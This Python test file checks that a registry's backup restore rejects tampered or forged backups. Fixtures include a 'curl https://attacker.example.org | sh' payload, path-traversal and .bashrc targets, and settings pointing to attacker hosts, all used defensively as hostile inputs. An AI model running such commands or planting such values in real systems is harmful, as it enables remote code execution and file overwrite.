"""Attacks on backups: by whoever can write to the place where they are kept.

Somebody who changes bytes is found by the digests of the manifest. Somebody who writes the manifest anew is
found by what is signed, or, where nothing is signed, by the digest of the manifest that its owner kept.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from fakes.registries import NAME, adapter_files, copy_registry, overwrite, resign
from registry import backup as backups
from registry.client import Registry
from registry.digest import digest_bytes
from registry.errors import (
    BadSignature,
    DigestMismatch,
    InvalidDocument,
    NotFound,
    RegistryError,
    StaleTrust,
    UsageError,
)
from registry.manifest import WEIGHTS_NAME
from registry.restoring import restore
from registry.settings import CONFIG_NAME
from registry.storage.local import LocalObjects
from registry.vault import BACKUPS, Vault


class Place:
    """A backup that an attacker can write to."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.folder = root / "backups"
        self.origin = copy_registry(root / "origin")
        self.vault = Vault(LocalObjects(self.folder))
        self.made = backups.make(self.origin, self.vault, {})
        self.new = root / "new"

    def file(self, sha256: str) -> Path:
        hexadecimal = sha256.removeprefix("sha256:")
        return self.folder / "objects" / hexadecimal[:2] / hexadecimal

    def manifest(self) -> dict[str, Any]:
        return json.loads((self.folder / BACKUPS / f"{self.made.name}.json").read_text())

    def forge(self, change: Callable[[dict[str, Any]], None]) -> None:
        """Rewrite the manifest."""
        document = self.manifest()
        change(document)
        overwrite(self.folder / BACKUPS / f"{self.made.name}.json", json.dumps(document).encode())

    def keep(self, data: bytes) -> dict[str, Any]:
        """Put bytes into the place, as an honest backup would; size and digest for the manifest."""
        digest = digest_bytes(data)
        overwrite(self.file(digest), data)
        return {"size": len(data), "sha256": str(digest)}

    def refused(self, kind: type[RegistryError], **options: Any) -> RegistryError:
        """The restore is refused, and nothing was written."""
        with pytest.raises(kind) as found:
            restore(self.new, Vault(self.vault.store), {}, **options)
        assert found.value.mend
        assert not self.new.exists() or not any((self.new / "registry").rglob("*"))
        return found.value


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def entry(document: dict[str, Any], part: str, ending: str) -> dict[str, Any]:
    return next(kept for kept in document[part] if kept["path"].endswith(ending))


PARTS = [
    ("objects", WEIGHTS_NAME),
    ("trust", "timestamp.json"),
    ("files", "keys/approver.pem"),
    ("databases", "ledger"),
]


@pytest.mark.parametrize(("part", "ending"), PARTS)
def test_changed_bytes_are_found_before_anything_is_written(place: Place, part: str, ending: str) -> None:
    path = place.file(entry(place.manifest(), part, ending)["sha256"])
    data = path.read_bytes()
    overwrite(path, data[:-1] + bytes([data[-1] ^ 1]))
    place.refused(DigestMismatch)
    overwrite(path, data + b"x")
    place.refused(DigestMismatch)
    path.unlink()
    place.refused(NotFound)


def test_another_object_under_a_manifest_written_anew(place: Place) -> None:
    evil = place.keep(adapter_files(7)[WEIGHTS_NAME])
    place.forge(lambda document: entry(document, "objects", WEIGHTS_NAME).update(evil))
    place.refused(DigestMismatch)


def test_an_object_that_nobody_signed(place: Place) -> None:
    evil = {"path": f"blobs/blake3/{'0' * 64}", **place.keep(b"evil")}
    place.forge(lambda document: document["objects"].append(evil))
    place.refused(BadSignature)


def test_a_statement_under_a_false_name(place: Place) -> None:
    def change(document: dict[str, Any]) -> None:
        found = next(kept for kept in document["objects"] if "/scan." in kept["path"])
        found.update(place.keep(b"{}"))

    place.forge(change)
    place.refused(BadSignature)


@pytest.mark.parametrize("ending", [WEIGHTS_NAME, "manifests/"])
def test_something_signed_is_left_out(place: Place, ending: str) -> None:
    def change(document: dict[str, Any]) -> None:
        document["objects"] = [kept for kept in document["objects"] if ending not in kept["path"]]

    place.forge(change)
    place.refused(NotFound)


@pytest.mark.parametrize("role", ["timestamp", "snapshot", "targets", "names", "root"])
def test_changed_trust_metadata_under_a_manifest_written_anew(place: Place, role: str) -> None:
    """One more day of life, in whatever metadata it is."""

    def change(document: dict[str, Any]) -> None:
        found = entry(document, "trust", f"{role}.json")
        metadata = json.loads(place.file(found["sha256"]).read_bytes())
        metadata["signed"]["expires"] = "2099-01-01T00:00:00Z"
        found.update(place.keep(json.dumps(metadata, sort_keys=True, separators=(",", ":")).encode()))

    place.forge(change)
    error = place.refused(RegistryError)
    assert error.exit_code in (12, 13)


def test_metadata_signed_by_keys_of_somebody_else(place: Place, tmp_path: Path) -> None:
    """A whole and consistent forgery: another registry's metadata and objects under our pinned root."""
    other = Registry.init(tmp_path / "other")
    backups.make(other, Vault(LocalObjects(tmp_path / "theirs")), {})
    theirs = Vault(LocalObjects(tmp_path / "theirs"))
    _, manifest, _ = theirs.manifest()
    shutil.copytree(tmp_path / "theirs" / "objects", place.folder / "objects", dirs_exist_ok=True)

    def change(document: dict[str, Any]) -> None:
        document["objects"] = []
        document["trust"] = [kept.model_dump() for kept in manifest.trust]

    place.forge(change)
    place.refused(BadSignature)


def test_the_backup_of_another_registry_does_not_replace_ours(place: Place, tmp_path: Path) -> None:
    other = Registry.init(tmp_path / "other")
    with pytest.raises(BadSignature, match="another registry"):
        restore(tmp_path / "other", place.vault, {}, overwrite=True, older=True)
    assert other.authority.state().names() == ()


def test_a_backup_from_before_the_pinned_root(place: Place) -> None:
    """Somebody who pinned the second root does not go back to the keys of the first one."""
    from registry.signing import keys
    from registry.signing.signers import ROOT

    keys.rotate(place.origin.authority, ROOT, None)
    (place.new / "trust").mkdir(parents=True)
    newest = keys.export(place.origin.authority.state())
    (place.new / "trust" / "pinned.root.json").write_bytes(newest)
    assert "from before that root" in place.refused(BadSignature).message


def test_a_root_that_does_not_follow_from_the_pinned_one(place: Place, tmp_path: Path) -> None:
    """Another registry whose newest root is its second; ours lies beside it as if it were its first."""
    from registry.signing import keys
    from registry.signing.signers import ROOT

    pinned = place.origin.authority.client.pinned.read_bytes()
    (place.new / "trust").mkdir(parents=True)
    (place.new / "trust" / "pinned.root.json").write_bytes(pinned)
    other = Registry.init(tmp_path / "other")
    keys.rotate(other.authority, ROOT, None)
    second = next(iter(other.store.keys("trust/2.root")))
    other.authority.client.pinned.write_bytes((tmp_path / "other/registry/objects" / second).read_bytes())
    theirs = Vault(LocalObjects(tmp_path / "theirs"))
    made = backups.make(Registry.open(tmp_path / "other"), theirs, {})
    shutil.copytree(tmp_path / "theirs" / "objects", place.folder / "objects", dirs_exist_ok=True)

    def change(document: dict[str, Any]) -> None:
        document.update(json.loads((tmp_path / "theirs" / BACKUPS / f"{made.name}.json").read_text()))
        entry(document, "trust", "/1.root.json").update(place.keep(pinned))

    place.forge(change)
    place.refused(BadSignature)


def test_an_older_backup_than_what_this_machine_has_seen(place: Place) -> None:
    """Whoever keeps the backups shows an old one, from before a revocation."""
    home = place.origin.place.home
    place.origin.revoke(f"{NAME}:1", "it leaks")
    seen = shutil.copytree(home / "trust", place.new / "trust", symlinks=True)
    assert seen.exists()
    error = place.refused(StaleTrust)
    assert error.exit_code == 16
    assert "timestamp" in error.message
    place.refused(StaleTrust, overwrite=True)


def test_metadata_that_the_snapshot_does_not_name(place: Place) -> None:
    """Numbers that nobody signed would be taken for later ones by whoever publishes next."""
    evil = {"path": "trust/999999999.targets.json", **place.keep(b"{}")}
    place.forge(lambda document: document["trust"].append(evil))
    place.refused(DigestMismatch)


@pytest.mark.parametrize(
    "path",
    [
        "../outside",
        "registry/keys/../../../outside",
        "/tmp/outside",
        "registry/keys/sub/folder.pem",
        "cache/sha256/evil",
        "trust/metadata/root.json",
        "registry/ledger.db",
        ".bashrc",
        "registry/keys/.lock",
        "",
    ],
)
def test_files_that_lead_elsewhere(place: Place, path: str) -> None:
    evil = {"path": path, **place.keep(b"evil")}
    place.forge(lambda document: document["files"].append(evil))
    place.refused(InvalidDocument)


@pytest.mark.parametrize(("part", "path"), [
    ("objects", "../../evil"), ("objects", "trust/timestamp.json"), ("trust", "blobs/blake3/x"),
    ("trust", "trust/../../x"), ("databases", "../ledger"),
])  # fmt: skip
def test_keys_that_lead_elsewhere(place: Place, part: str, path: str) -> None:
    extra = {"kind": "sqlite", "major": 0} if part == "databases" else {}
    evil = {"path": path, **place.keep(b"evil"), **extra}
    place.forge(lambda document: document[part].append(evil))
    place.refused(InvalidDocument)


def test_the_same_name_twice(place: Place) -> None:
    """Which of the two is written would be a matter of order."""
    key = {"path": "registry/keys/approver.pem", **place.keep(b"evil")}
    place.forge(lambda document: document["files"].append(key))
    place.refused(InvalidDocument)


def test_a_link_in_the_place_of_an_object(place: Place, tmp_path: Path) -> None:
    path = place.file(entry(place.manifest(), "objects", WEIGHTS_NAME)["sha256"])
    aside = tmp_path / "aside"
    path.rename(aside)
    path.symlink_to(aside)
    place.refused(DigestMismatch)


def test_a_link_where_a_file_is_to_be_written(place: Place, tmp_path: Path) -> None:
    """A link that somebody left in the data folder is replaced, and what it leads to stays as it was."""
    victim = tmp_path / "victim"
    victim.write_text("mine")
    keys = place.new / "registry" / "keys"
    keys.mkdir(parents=True)
    (place.new / "registry" / "policy.toml").symlink_to(victim)
    policy = {"path": "registry/policy.toml", **place.keep(b"# a policy\n")}
    place.forge(lambda document: document["files"].append(policy))
    restore(place.new, Vault(place.vault.store), {})
    assert victim.read_text() == "mine"
    assert (place.new / "registry" / "policy.toml").read_text() == "# a policy\n"
    assert not (place.new / "registry" / "policy.toml").is_symlink()


@pytest.mark.parametrize("name", ["registry/policy.toml", "registry/keys/approver.pem", "mlflow"])
def test_what_nobody_signs_is_covered_by_the_digest_that_its_owner_kept(place: Place, name: str) -> None:
    def change(document: dict[str, Any]) -> None:
        evil = place.keep(b"[gates]\n")
        for part in ("files", "databases"):
            for kept in document[part]:
                if kept["path"] == name:
                    kept.update(evil)
                    return
        document["files"].append({"path": name, **evil})

    place.forge(change)
    place.refused(DigestMismatch, digest=place.made.digest)


def settings_of(text: str, place: Place) -> Callable[[dict[str, Any]], None]:
    """A change of the manifest that brings settings of an attacker."""

    def change(document: dict[str, Any]) -> None:
        document["files"] = [kept for kept in document["files"] if kept["path"] != CONFIG_NAME]
        document["files"].append({"path": CONFIG_NAME, **place.keep(text.encode())})

    return change


@pytest.mark.parametrize(
    "line",
    [
        'ledger = "sqlite:///{victim}/.bash_profile"',
        'ledger = "sqlite:///{new}/../victim/.bash_profile"',
        'ledger = "postgresql+psycopg://ledger@attacker.example.org/ledger"',
        'mlflow_tracking_uri = "sqlite:///{victim}/mlflow.db"',
        'mlflow_tracking_uri = "http://attacker.example.org"',
        'mlflow_tracking_uri = "{victim}"',
        'store = "file://{victim}"',
        'store = "file://{new}/%2e%2e/victim"',
        'store = "s3://attacker/everything"',
        'cache = "{victim}"',
        'keys = {{ online = "file:{victim}/online.pem" }}',
        'keys = {{ online = "azurekms://attacker.example.org/keys/k/1" }}',
    ],
)
def test_forged_settings_lead_nowhere(place: Place, tmp_path: Path, line: str) -> None:
    """Neither a file of the person who restores is written, nor a server of the attacker is asked."""
    victim = tmp_path / "victim"
    (victim / "trust").mkdir(parents=True)
    (victim / "trust" / "notes.txt").write_text("mine")
    evil = place.keep(b"curl https://attacker.example.org | sh\n")
    place.forge(lambda document: entry(document, "databases", "ledger").update(evil))
    text = line.format(victim=victim, new=place.new)
    place.forge(settings_of(f"[registry]\n{text}\n", place))
    before = sorted(path for path in tmp_path.rglob("*") if not path.is_relative_to(place.new))
    assert "--sha256" in place.refused(UsageError).mend
    assert not place.new.exists()
    assert sorted(path for path in tmp_path.rglob("*") if not path.is_relative_to(place.new)) == before


def test_settings_that_their_owner_has_proven_or_said_anew_may_lead_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    origin = copy_registry(tmp_path / "origin")
    moved = tmp_path / "srv" / "ledger.db"
    moved.parent.mkdir()
    (origin.place.home / "registry" / "ledger.db").rename(moved)
    (origin.place.home / CONFIG_NAME).write_text(f'[registry]\nledger = "sqlite:///{moved}"\n')
    vault = Vault(LocalObjects(tmp_path / "backups"))
    made = backups.make(Registry.open(origin.place.home), vault, {})
    with pytest.raises(UsageError, match="proves"):
        restore(tmp_path / "new", vault, {"ledger": f"sqlite:///{tmp_path}/other.db"})
    with monkeypatch.context() as patch:
        patch.setenv("ADAPTER_FOUNDRY_LEDGER", f"sqlite:///{tmp_path}/drill.db")
        restore(tmp_path / "drill", vault, {})
    assert (tmp_path / "drill.db").exists()
    moved.unlink()
    restore(tmp_path / "new", vault, {}, digest=made.digest)
    assert moved.exists()


@pytest.mark.parametrize(
    "evil", [b"curl https://attacker.example.org | sh\n", b"SQLite format 3\0" + b"\nsh\n" * 2000]
)
def test_a_dump_that_is_no_database(place: Place, evil: bytes) -> None:
    place.forge(lambda document: entry(document, "databases", "ledger").update(place.keep(evil)))
    place.refused(DigestMismatch)
    assert not place.new.exists()
    target = place.root / ".bash_profile"
    with pytest.raises(DigestMismatch):
        restore(place.new, place.vault, {"ledger": f"sqlite:///{target}"}, only=["ledger"])
    assert not target.exists()


def test_no_manifest_of_ours(place: Place) -> None:
    path = place.folder / BACKUPS / f"{place.made.name}.json"
    for data in (b"", b"[]", b"{", b'{"format": "adapter-foundry/backup/2"}', b"[" * 100_000):
        overwrite(path, data)
        place.refused(InvalidDocument)
    place.folder.joinpath(BACKUPS).rename(place.root / "away")
    place.refused(NotFound)


def test_expired_metadata_of_a_thief_are_not_renewed(place: Place) -> None:
    """A store's metadata signed by a publisher for an approver are refused, expired or not."""
    home = place.origin.place.home
    resign(home, {"targets": lambda signed: None}, keys={"targets": "publisher"})
    with pytest.raises(RegistryError) as found:
        backups.make(Registry.open(home), Vault(LocalObjects(place.root / "second")), {})
    assert found.value.exit_code == 12


def test_passwords_of_databases_are_told_to_nobody(
    place: Place, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither in a message, nor among the arguments of PostgreSQL's programs, nor in the backup."""
    from registry.storage.dumps import Database

    monkeypatch.setenv("URI", "postgresql+psycopg2://me:hunter2@127.0.0.1:1/db")
    for uri in ("postgresql://me:hunter2@127.0.0.1:1/db", "env:URI"):
        with pytest.raises(RegistryError) as found:
            backups.make(place.origin, Vault(place.vault.store), {"mlflow": uri})
        assert "hunter2" not in str(found.value)
        assert "hunter2" not in repr(Database.of(uri).address)
    with pytest.raises(RegistryError) as found:
        Database.of("mysql://me:hunter2@127.0.0.1/db")
    assert "hunter2" not in str(found.value)
    assert "hunter2" not in "".join(capfd.readouterr())
    held = b"".join(path.read_bytes() for path in place.folder.rglob("*") if path.is_file())
    assert b"hunter2" not in held
    assert "hunter2" not in os.environ.get("PGPASSWORD", "")
